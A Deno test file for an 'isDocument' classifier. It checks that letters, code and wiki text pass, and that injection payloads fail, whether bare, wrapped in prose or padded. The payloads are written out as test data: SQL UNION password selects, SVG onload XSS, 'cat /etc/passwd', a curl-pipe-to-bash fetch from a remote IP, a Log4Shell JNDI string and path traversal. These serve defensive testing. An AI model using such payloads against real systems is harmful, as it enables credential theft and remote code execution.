import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { isDocument } from "./document.ts";

const LETTER =
  "Dear neighbours, the summer party takes place on Saturday behind the old mill near the river. " +
  "Bring a salad or a cake, something to drink and your own plates; we provide tables, lamps and the music until " +
  "midnight. Children are welcome, dogs should stay at home this year because last time one of them ate all " +
  "sausages before anybody else came. Please tell Margaret by Thursday evening how many guests you expect, and " +
  "whether somebody needs help with the walk from our village hall.";

const PROGRAM = `import { readFile } from "node:fs/promises";
const text = await readFile(path, "utf-8");
for (const line of text.split("\\n")) {
  if (line.startsWith("#")) continue;
  console.log(line.trim());
}`;

const JAPANESE =
  "先週末、祖母の家の片づけを手伝いました。押し入れの奥から古いカメラと日記が出てきて、みんなで大笑い。" +
  "写真は約三百枚、そのうち八割は誰が写っているのか分かりません。ご存じの方は書いてください。\n" +
  "来週の土曜日は町内会の掃除です。朝八時に公園へ集まりましょう。";

const ARTICLE =
  `== History ==\n'''The mill''' -- ${LETTER}<ref name="a">{{cite|url=https://example.com/?a=1&b=2}}</ref>\n` +
  "{| class=\"wikitable\"\n| 50% off <br/> 1 < 2\n|}\n<nowiki><script>alert('not run')</script></nowiki>\n[[Category:x]]\n";
const LETTER_WITH_PROGRAM = `${LETTER}\n\n${PROGRAM}`;

Deno.test("articles, programs and letters that show one are documents", () => {
  assert.ok(isDocument(ARTICLE));
  assert.ok(isDocument(PROGRAM));
  assert.ok(isDocument(LETTER_WITH_PROGRAM));
  assert.ok(isDocument(`${JAPANESE}\n\n${PROGRAM}`));
});

Deno.test("a document is one in base64 and as a form field, too", () => {
  assert.ok(isDocument(Buffer.from(PROGRAM).toString("base64")));
  assert.ok(isDocument(encodeURIComponent(LETTER_WITH_PROGRAM).replaceAll("%20", "+")));
});

Deno.test("prose around signs of code in one place is none: so payloads hide behind sentences", () => {
  for (
    const payload of ["' UNION SELECT password FROM users-- -", "<svg/onload=alert(1)>", ";cat /etc/passwd"]
  ) {
    assert.ok(!isDocument(`${LETTER} ${payload}`), payload);
    assert.ok(!isDocument(`${payload} ${LETTER}`), payload);
    assert.ok(!isDocument(`${LETTER}\n${payload}\n${JAPANESE}`), payload);
  }
});

Deno.test("payloads are no documents", () => {
  for (
    const payload of [
      "1 UNION ALL SELECT username, password, email, NULL, NULL FROM users WHERE 1=1 ORDER BY 1-- -",
      "<svg/onload=alert(document.cookie)>",
      "; curl http://203.0.113.9/x.sh | bash",
      "${jndi:ldap://203.0.113.9/a}",
      "../".repeat(40) + "etc/passwd",
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YQ==",
    ]
  ) assert.ok(!isDocument(payload), payload);
});

Deno.test("padding makes no document", () => {
  const payload = "' UNION SELECT password FROM users-- -";
  for (
    const padding of ["a".repeat(9_000), " ".repeat(9_000), "lorem ipsum ".repeat(700), "/**/".repeat(999)]
  ) {
    assert.ok(!isDocument(padding + payload));
  }
});

Deno.test("random base64 is no document", () => {
  const bytes = new Uint8Array(6_000);
  let state = 1;
  for (let i = 0; i < bytes.length; i++) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[i] = state >>> 24;
  }
  assert.ok(!isDocument(Buffer.from(bytes).toString("base64")));
});
